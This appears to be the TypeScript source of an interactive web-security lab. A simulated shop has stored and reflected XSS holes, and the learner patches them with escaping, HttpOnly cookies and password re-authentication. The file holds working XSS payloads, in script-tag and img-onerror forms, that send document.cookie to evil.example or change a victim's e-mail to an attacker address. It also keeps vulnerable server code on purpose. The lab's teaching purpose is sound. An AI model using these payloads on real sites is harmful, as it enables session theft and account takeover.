import type { Document } from '../../browser/document';
import type { PageScript } from '../../browser/page';
import type { Chosen } from '../choices';
import { authenticate, logIn, loginPage, passwords, wrongPassword } from '../kit/accounts';
import { forging, submitting, visiting } from '../kit/actions';
import { Duel } from '../kit/duel';
import { withCookie } from '../kit/program';
import { SessionStore } from '../kit/sessions';
import { type Call, page, redirect, refuse, Site, setCookie } from '../kit/site';
import { defineLab, verdict } from '../model';
import type { Setup } from '../world';

const SHOP = 'https://shop.example';

const STEAL = "new Image().src = 'https://evil.example/?' + document.cookie";
const RIDE = "fetch('/email', { method: 'POST', body: 'email=mallory@evil.example' })";
const inScript = (code: string): string => `<script>${code}</script>`;
const inImage = (code: string): string => `<img src="x" onerror="${code}">`;

const choices = {
  output: {
    kind: 'one',
    label: 'How a comment gets into the page',
    start: 'raw',
    values: {
      raw: 'comment',
      filtered: "comment.replaceAll('<script>', '')",
      escaped: 'escapeHtml(comment)',
    },
  },
  httpOnly: { kind: 'toggle', label: 'HttpOnly', start: 'off', off: '', on: 'httpOnly: true, ' },
  reauthenticate: {
    kind: 'toggle',
    label: 'The password before the address changes',
    start: 'off',
    off: '// whoever is logged in may change it',
    on: 'if (!checkPassword(user, req.body.password)) return res.sendStatus(403);',
  },
} as const;

/** What of a text a browser would run, of the two scripts that this lab knows. */
function scriptsIn(html: string): PageScript[] {
  const code = /<script>([^<]*)<\/script>/.exec(html)?.[1] ?? /onerror="([^"]*)"/.exec(html)?.[1] ?? '';
  if (code.includes('document.cookie') && code.includes('evil.example')) return [steal];
  return code.includes('fetch(') && code.includes('/email') ? [ride] : [];
}

const steal: PageScript = (document) =>
  document.image(`https://evil.example/?${encodeURIComponent(document.cookie)}`);
const ride: PageScript = async (document) => {
  const headers = [['Content-Type', 'application/x-www-form-urlencoded']] as const;
  await document.fetch('/email', { method: 'POST', headers, body: 'email=mallory@evil.example' });
};

class Shop extends Duel {
  readonly sessions = new SessionStore();
  readonly emails = new Map([['ana', 'ana@mail.example']]);
  comments: string[] = ['The tent is waterproof.'];
  /** What the injected script sent to Mallory. */
  loot: string | undefined;
  /** Mallory opened Ana's account with it. */
  inside = false;

  constructor(
    private readonly chosen: Chosen<typeof choices>,
    setup: Setup,
  ) {
    super(setup);
    const shop = new Site('shop', ['shop.example'])
      .on('GET /login', () => loginPage())
      .on('POST /login', (call) => this.login(call))
      .on('GET /tent', () => this.tent())
      .on('POST /comments', (call) => {
        this.comments = [...this.comments, call.field('comment') ?? ''];
        return redirect('/tent');
      })
      // Someone else's code, and as full of holes: the learner cannot mend it.
      .on('GET /help', (call) =>
        page('Help', `Nothing found for ${call.query('q') ?? ''}`, {
          scripts: scriptsIn(call.query('q') ?? ''),
        }),
      )
      .on('GET /account', (call) => this.account(call))
      .on('POST /email', (call) => this.changeEmail(call));
    this.addServer(shop, 'shop.example', 'honest');
    const evil = new Site('evil', ['evil.example']).on('GET /', (call) => {
      this.loot = decodeURIComponent(call.url.search.slice(1));
      this.note(
        this.loot === ''
          ? 'The script sent me nothing: it could read no cookie.'
          : `The script sent me ${this.loot}`,
      );
      return page('', '');
    });
    this.addServer(evil, 'evil.example', 'attacker');
    this.addTable('shop', 'Accounts', ['user', 'e-mail'], () => [...this.emails]);
  }

  private login(call: Call) {
    const user = authenticate(call);
    if (user === undefined) return wrongPassword();
    const id = this.sessions.create(this.randomHex(128), user, this.clock.now());
    const httpOnly = this.chosen.httpOnly ? '; HttpOnly' : '';
    return setCookie(redirect('/account'), `sid=${id}; Path=/; Secure${httpOnly}; SameSite=Lax`);
  }

  private tent() {
    const { output } = this.chosen;
    const html = this.comments.map((comment) =>
      output === 'filtered' ? comment.replaceAll('<script>', '') : comment,
    );
    return page('Tent', `What customers say: ${html.join(' | ')}`, {
      forms: [{ id: 'comment', action: '/comments', method: 'POST', fields: { comment: '' } }],
      scripts: output === 'escaped' ? [] : html.flatMap(scriptsIn),
    });
  }

  private account(call: Call) {
    const user = this.sessions.user(call.cookie('sid'));
    if (user === undefined) return refuse(401, 'Please log in.');
    const fields = { email: '', ...(this.chosen.reauthenticate ? { password: '' } : {}) };
    return page('Account', `Account of ${user}, e-mail ${this.emails.get(user) ?? ''}`, {
      forms: [{ id: 'email', action: '/email', method: 'POST', fields }],
    });
  }

  private changeEmail(call: Call) {
    const user = this.sessions.user(call.cookie('sid'));
    if (user === undefined) return refuse(401, 'Please log in.');
    if (this.chosen.reauthenticate && call.field('password') !== passwords[user])
      return refuse(403, 'Please give your password as well.');
    this.emails.set(user, call.field('email') ?? '');
    return redirect('/account');
  }

  async comment(text: string): Promise<void> {
    await this.mallory.post(`${SHOP}/comments`, { comment: text });
  }

  /** Mallory uses the cookie that the script sent. */
  async useLoot(): Promise<boolean> {
    const id = /sid=([0-9a-f]+)/.exec(this.loot ?? '')?.[1] ?? '';
    const { body } = await this.mallory.send({ url: `${SHOP}/account`, headers: withCookie('sid', id) });
    const hit = body.startsWith('Account of ana');
    if (hit) this.inside = true;
    return hit;
  }

  get ridden(): boolean {
    return this.emails.get('ana') === 'mallory@evil.example';
  }

  /** Ana, logged in, sees a page. */
  async anaSees(path: string): Promise<Document> {
    await logIn(this.ana, SHOP, 'ana');
    return this.ana.visit(`${SHOP}${path}`);
  }
}

const help = (code: string): string => `/help?q=${encodeURIComponent(inImage(code))}`;

export const xss = defineLab({
  id: 'xss-steal-or-ride',
  title: 'Steal the cookie, or ride it',
  summary:
    'A comment with a script in it. HttpOnly keeps the cookie from the script, not the script from the session.',
  tags: ['S8', 'S14', 'S18', 'S21', 'S29', 'S30', 'F5'],
  concepts: ['xss-token-theft', 'cookie-httponly', 'reauthentication'],
  passages: [
    'session-hijacking/xss',
    'cookie-attributes/httponly',
    'session-hijacking/reauthentication',
    'request-origin/xss',
    'token-life/out-of-reach',
  ],
  minutes: 12,
  goal: {
    title: "Take over Ana's account by a script in the page",
    reached: (world: Shop) =>
      verdict(
        world.inside || world.ridden,
        world.ridden
          ? "Ana's e-mail is Mallory's now: the next password reset goes there."
          : "Mallory is in Ana's account with her cookie.",
        "Ana's account is hers still.",
      ),
  },
  task: 'Close the hole. Then make the next hole, in the help page that is not yours to mend, worth less: it must neither steal the session nor change the e-mail.',
  choices,
  code: [
    {
      party: 'shop',
      file: 'shop/server.js',
      text: `
app.get('/tent', (req, res) => {
  const items = comments.map((comment) => '<li>' + {{output}} + '</li>');
  res.send('<ul>' + items.join('') + '</ul>');
});

app.post('/login', (req, res) => {
  …
  res.cookie('sid', id, { {{httpOnly}}secure: true, sameSite: 'lax' });
});

app.post('/email', (req, res) => {
  const user = sessions.get(req.cookies.sid)?.user;
  if (!user) return res.sendStatus(401);
  {{reauthenticate}}
  accounts.get(user).email = req.body.email;
});`,
    },
  ],
  build: (chosen, setup) => new Shop(chosen, setup),
  steps: [
    {
      title: 'Mallory writes a comment',
      text: `The comment is a script: ${inScript(STEAL)}`,
      note: 'The shop keeps it like any other comment.',
      run: async (world) => {
        await world.comment(inScript(STEAL));
        return undefined;
      },
    },
    {
      title: 'Ana looks at the tent',
      text: 'Ana is logged in and reads what other customers say.',
      note: 'The script ran in the shop’s own page: to the browser it is the shop’s.',
      question: {
        kind: 'tick',
        prompt: 'Which of Ana’s cookies does the script send to evil.example?',
        options: () => [{ id: 'sid', label: 'sid, set at login' }],
        judge: (world) =>
          verdict(
            (world.loot ?? '').includes('sid='),
            'It is not HttpOnly, so document.cookie shows it.',
            'The script could not read it, or did not run.',
          ),
      },
      run: async (world) => {
        await world.anaSees('/tent');
        return world.loot ? `evil.example got ${world.loot}` : 'evil.example got no cookie.';
      },
    },
    {
      title: 'Mallory uses the cookie',
      text: 'Mallory opens the account page with what the script sent.',
      note: 'A stolen session works from anywhere.',
      run: async (world) =>
        (await world.useLoot()) ? "The shop shows Ana's account." : 'The shop asks to log in.',
    },
    {
      title: 'Mallory writes another comment',
      text: `This one does not need the cookie: ${inScript(RIDE)}. Ana looks at the tent again.`,
      note: 'The browser added the cookie by itself. HttpOnly would not have changed that.',
      run: async (world) => {
        await world.comment(inScript(RIDE));
        await world.ana.visit(`${SHOP}/tent`);
        return `Ana's e-mail is now ${world.emails.get('ana')}.`;
      },
    },
  ],
  actions: [
    {
      id: 'ana-logs-in',
      title: 'Ana logs in',
      by: 'ana',
      run: async (world) => (await logIn(world.ana, SHOP, 'ana')).page.text,
    },
    visiting('ana', 'Ana', `${SHOP}/tent`, (world: Shop) => world.ana),
    submitting('ana', 'Ana', (world: Shop) => world.ana),
    {
      id: 'mallory-comments',
      title:
        'Mallory writes a comment (the lab knows two scripts: one that sends the cookie, one that changes the e-mail)',
      by: 'mallory',
      fields: [{ id: 'comment', label: 'Comment', kind: 'multiline', start: inImage(STEAL) }],
      run: async (world, { comment = '' }) => {
        await world.comment(comment);
        return 'The comment is there for everyone who looks at the tent.';
      },
    },
    {
      id: 'mallory-uses',
      title: 'Mallory opens the account with what the script sent',
      by: 'mallory',
      run: async (world) => ((await world.useLoot()) ? "It is Ana's account." : 'The shop asks to log in.'),
    },
    forging('mallory', 'Mallory', `${SHOP}/account`, (world: Shop) => world.mallory, 'Cookie: sid='),
  ],
  checks: [
    {
      id: 'comment',
      kind: 'attack',
      title: 'A script in a comment',
      run: async (world: Shop) => {
        for (const wrap of [inScript, inImage]) {
          for (const code of [STEAL, RIDE]) await world.comment(wrap(code));
        }
        await world.anaSees('/tent');
        if (world.ridden)
          return { ok: false, reason: 'A comment still runs as a script and changes Ana’s e-mail.' };
        return verdict(
          world.loot === undefined,
          'Comments are text, whatever is in them.',
          'A comment still runs as a script: an attribute such as onerror needs no <script>.',
        );
      },
    },
    {
      id: 'steal',
      kind: 'attack',
      title: 'The hole in the help page, used to steal',
      run: async (world) => {
        await world.anaSees(help(STEAL));
        return verdict(
          !(await world.useLoot()),
          'The script runs and finds no cookie that it could read.',
          "The script reads the session cookie, and Mallory is in Ana's account.",
        );
      },
    },
    {
      id: 'ride',
      kind: 'attack',
      title: 'The hole in the help page, used to ride',
      run: async (world) => {
        await world.anaSees(help(RIDE));
        return verdict(
          !world.ridden,
          'The script can ask for the change, but does not know the password.',
          'The script changes Ana’s e-mail: the cookie goes along, HttpOnly or not.',
        );
      },
    },
    {
      id: 'comments',
      kind: 'honest',
      title: 'Comments are shown',
      run: async (world) => {
        await world.comment('I <3 this tent');
        const { page: shownPage } = await world.anaSees('/tent');
        return verdict(
          shownPage.text.includes('I <3 this tent'),
          'The comment reads as it was written.',
          'Comments are no longer shown as they were written.',
        );
      },
    },
    {
      id: 'email',
      kind: 'honest',
      title: 'Ana changes her e-mail',
      run: async (world) => {
        const account = await world.anaSees('/account');
        const form = account.page.forms?.[0];
        const fields = {
          email: 'ana@new.example',
          ...(form && 'password' in form.fields ? { password: passwords.ana ?? '' } : {}),
        };
        await account.submit({ action: '/email', method: 'POST', fields });
        return verdict(
          world.emails.get('ana') === 'ana@new.example',
          'Ana’s new e-mail is there.',
          'Ana can no longer change her e-mail.',
        );
      },
    },
  ],
  fixes: [
    {
      title: 'Escape, HttpOnly, and the password for what matters',
      choices: { output: 'escaped', httpOnly: 'on', reauthenticate: 'on' },
      why: 'Escaping closes the hole. HttpOnly and re-authentication limit what the next one can do.',
    },
  ],
});
